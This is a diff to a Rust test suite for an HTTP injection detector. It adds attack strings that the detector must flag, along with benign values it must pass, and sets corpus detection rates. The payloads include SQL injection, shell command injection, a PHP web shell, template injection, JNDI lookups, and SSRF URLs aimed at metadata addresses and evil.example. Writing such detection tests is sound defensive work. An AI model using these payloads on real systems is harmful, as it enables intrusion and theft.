@@ -47,6 +47,14 @@ const ATTACKS: &[(Injection, &[&str])] = &[
             "\" or \"a\"=\"a",
             "1 ORDER BY 10--",
             "') OR ('a'='a",
+            "1 and 1=(select count(*) from tabname)--",
+            "-1 union select 1,concat_ws(0x3a,version(),user()),3--",
+            "1\"));select (case when (1=1) then 1 else 1/(select 0) end)--",
+            "1' rlike sleep(5)#",
+            "1 or 1=@@version",
+            "-1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3",
+            "' and left(database(),2)>'sa'-- ",
+            "abc' = !!'0",
         ],
     ),
     (
@@ -60,8 +68,9 @@ const ATTACKS: &[(Injection, &[&str])] = &[
             "a && ping -c 3 evil.example",
             "test; sleep 10",
             "() { :; }; /bin/bash -c 'id'",
-            "x\n/bin/sh -i",
             "& echo 1 | powershell -enc aaaa",
+            "system('id')",
+            "cat$IFS/tmp/x",
         ],
     ),
     (
@@ -84,6 +93,9 @@ const ATTACKS: &[(Injection, &[&str])] = &[
             "<%= 7*7 %>",
             "{{''.__class__.__mro__[1].__subclasses__()}}",
             "T(java.lang.Runtime).getRuntime().exec('id')",
+            "{{config.items()}}",
+            "O:8:\"stdClass\":0:{}",
+            "<?php system($_GET['c']); ?>",
         ],
     ),
     (
@@ -105,6 +117,9 @@ const ATTACKS: &[(Injection, &[&str])] = &[
             "http://0x7f.0x0.0x0.0x1/",
             "http://[::ffff:169.254.169.254]/",
             "file:///etc/hostname",
+            "jar:http://evil.example/b.zip!/a",
+            "http://\u{2460}\u{2461}\u{2466}.\u{24ea}.\u{24ea}.\u{2460}/",
+            "http://169\u{3002}254\u{3002}169\u{3002}254/",
         ],
     ),
     (
@@ -115,41 +130,14 @@ const ATTACKS: &[(Injection, &[&str])] = &[
             "https://user@10.0.0.5/x",
             "http://[::1]:9200/_cat",
             "http://192.168.1.1",
+            "ldap://127.0.0.1/x",
+            "http://host.docker.internal:8080/",
         ],
     ),
 ];
 
-/// Values that mean no harm.
-const HARMLESS: &[&str] = &[
-    "O'Brien",
-    "rock 'n' roll -- the best of",
-    "it's 5 o'clock; see you and bring 2 or 3 friends",
-    "select a size; update my order; drop it at the door",
-    "The European Union select committee met on Monday",
-    "status = \"Open\" AND type = 'Bug' ORDER BY created DESC",
-    "price gt 5 and name eq 'x' or id in (1,2,3)",
-    "Müller & Söhne (Wien); 50% off | today only",
-    "I could sleep (8 hours) or benchmark (my PC)",
-    "C:\\Users\\me\\photo.jpg",
-    "../img/logo.png",
-    "https://shop.example/return?to=/account&x=1",
-    "https://cdn.example:8443/a.js",
-    "file:///storage/emulated/0/DCIM/1.jpg",
-    "{\"filter\":{\"name\":{\"_eq\":\"x\"}}}",
-    "query($id: ID!) { user(id: $id) { name, orders(first: 10) { total } } }",
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
-    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
-    "2025-11-23T10:00:00+01:00",
-    "hello {{name}}, your total is ${total}",
-    "a < b && c > d || e == f",
-    "* * * * * /usr/local/bin/backup",
-    "use the | character; cat and dog; id card",
-    "1 = 1st, 2 = 2nd",
-    "<p>Read <a href=\"https://x.example\">this</a></p>",
-    "10.0.0.5",
-    "v1.2.3",
-    "http://12monkeys.example/",
-];
+/// Values that mean no harm, a line each: what people write, what programs name, and the filters of query languages.
+const HARMLESS: &str = include_str!("harmless.txt");
 
 #[test]
 fn every_pattern_compiles_and_what_tools_send_is_told_in_a_query_and_in_json() {
@@ -168,7 +156,7 @@ fn every_pattern_compiles_and_what_tools_send_is_told_in_a_query_and_in_json() {
 
 #[test]
 fn what_people_write_is_nothing() {
-    for value in HARMLESS {
+    for value in HARMLESS.lines() {
         let target = format!("/v1/items?sort=name&q={}", escaped(value));
         let found =
             [kinds(in_target(target.as_bytes(), &key())), in_json(value), kinds(in_field(value.as_bytes(), &key()))];
@@ -183,9 +171,43 @@ fn paths_and_lines_count_in_heads_only() {
     assert_eq!(kinds_of("/files/..%252f..%252fsecret"), [Injection::Path]);
     assert_eq!(kinds_of("/a?next=%0d%0aSet-Cookie:%20a=b"), [Injection::HeaderLine]);
     assert_eq!(kinds_of("/a?q=%3Cscript%20src=//evil.example/a.js%3E"), [Injection::Script]);
-    for letter in ["see ../../shared/logo.png", "X:\r\nLocation: Vienna\r\n", "<script src=\"/a.js\"></script>"] {
+    assert_eq!(kinds_of("/a?q=x%0a/bin/sh%20-i"), [Injection::Command]);
+    for letter in [
+        "see ../../shared/logo.png",
+        "X:\r\nLocation: Vienna\r\n",
+        "<script src=\"/a.js\"></script>",
+        "C:\\Windows\\System32\\cmd.exe",
+        "mount /etc/hosts and /proc/self there",
+    ] {
         assert_eq!(in_json(letter), [], "{letter}");
     }
+}
+
+#[test]
+fn what_has_lines_is_a_document_that_code_is_quoted_in() {
+    for letter in [
+        "## Install\ncurl https://x.example/a.sh | sh\nthen `id`; cat /etc/passwd",
+        "Bug: `' OR 1=1--` logs me in\n\nSELECT * FROM users WHERE id = 1 UNION SELECT 1,2",
+        "<script>alert(1)</script>\n<p>is what the scanner sent</p>",
+    ] {
+        assert_eq!(in_json(letter), [], "{letter}");
+    }
+    assert_eq!(in_json("Hello\n${jndi:ldap://evil.example/a}\n"), [Injection::Expression]);
+    assert_eq!(in_json("1' or '1'='1\n"), [Injection::Query], "one line");
+    assert_eq!(in_json("select id from t where a = 1 or 1=1"), [], "a whole statement");
+}
+
+#[test]
+fn values_of_xml_and_parts_of_forms_are_looked_at_one_by_one() {
+    let xml = "<?xml version=\"1.0\"?>\n<order>\n <id>7' or '1'='1</id>\n <n>2</n>\n</order>";
+    assert_eq!(kinds(in_body(BodyKind::Xml, xml.as_bytes(), &key())), [Injection::Query]);
+    let include = br#"<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///x"/></a>"#;
+    assert_eq!(kinds(in_body(BodyKind::Xml, include, &key())), [Injection::Entity]);
+    let part = |value: &str| format!("--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{value}\r\n");
+    let form = part("blue") + &part("1' or '1'='1") + "--b--\r\n";
+    assert_eq!(kinds(in_body(BodyKind::Multipart, form.as_bytes(), &key())), [Injection::Query]);
+    let form = part("blue") + &part("O'Brien") + "--b--\r\n";
+    assert_eq!(kinds(in_body(BodyKind::Multipart, form.as_bytes(), &key())), []);
 }
 
 #[test]
@@ -208,6 +230,10 @@ fn operators_in_a_login_are_told() {
     let login = br#"{"username": {"$gt": ""}, "password": {"$gt": ""}}"#;
     assert_eq!(kinds(in_body(BodyKind::Json, login, &key())), [Injection::Query]);
     assert_eq!(kinds(in_body(BodyKind::Json, br#"{"where": {"age": {"$gt": 5}}}"#, &key())), []);
+    let script = br#"{"$where": "this.password == 'x'"}"#;
+    assert_eq!(kinds(in_body(BodyKind::Json, script, &key())), [Injection::Query]);
+    let prototype = br#"{"a": 1, "__proto__": {"is_admin": true}}"#;
+    assert_eq!(kinds(in_body(BodyKind::Json, prototype, &key())), [Injection::Expression]);
 }
 
 #[test]
@@ -248,8 +274,8 @@ fn a_picture_is_no_text() {
         "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n";
     let upload = |content: &[u8]| kinds(in_body(BodyKind::Multipart, &[head.as_bytes(), content].concat(), &key()));
     assert_eq!(upload(b"\x89PNG\r\n\x1a\n`id`|id;%{(#"), []);
-    assert_eq!(upload(b"\x01`id`"), []);
-    assert_eq!(upload("caf\u{e9}: `id`".as_bytes()), [Injection::Command]);
+    assert_eq!(upload(b"\x01; cat /tmp/x"), []);
+    assert_eq!(upload("caf\u{e9}; cat /tmp/x".as_bytes()), [Injection::Command]);
 }
 
 /// Lines of JSON of the corpus, each with its label and its value, escaped as in a query.
@@ -264,12 +290,13 @@ fn labelled(file: &str, field: &str) -> Option<Vec<(String, String)>> {
 }
 
 #[test]
-fn of_labelled_values_no_ordinary_one_is_told() {
+fn of_labelled_values_most_attacks_are_told_and_no_ordinary_one() {
     let Some(params) = labelled("http_params.jsonl", "payload") else {
         return eprintln!("skipped: APITAP_CORPUS is not set");
     };
     let values = params.into_iter().map(|(label, value)| (label, escaped(&value)));
     let strings = labelled("libinjection.jsonl", "urlencoded").unwrap();
+    let strings = strings.into_iter().map(|(label, value)| (label, value.replace(' ', "+")));
     let mut counts = std::collections::BTreeMap::<String, (u32, u32)>::new();
     for (label, value) in values.chain(strings) {
         let found = in_target(format!("/v1/items?q={value}").as_bytes(), &key());
@@ -277,6 +304,12 @@ fn of_labelled_values_no_ordinary_one_is_told() {
         (*told, *all) = (*told + u32::from(!found.is_empty()), *all + 1);
     }
     eprintln!("{counts:?}");
-    let (told, all) = counts["norm"];
-    assert!(told * 1000 <= all, "{told} of {all} ordinary values");
+    for ordinary in ["norm", "benign"] {
+        let (told, all) = counts[ordinary];
+        assert!(told * 1000 <= all, "{told} of {all} ordinary values");
+    }
+    for (label, percent) in [("sqli", 88), ("xss", 92), ("path-traversal", 65), ("cmdi", 60)] {
+        let (told, all) = counts[label];
+        assert!(told * 100 >= all * percent, "{told} of {all}: {label}");
+    }
 }
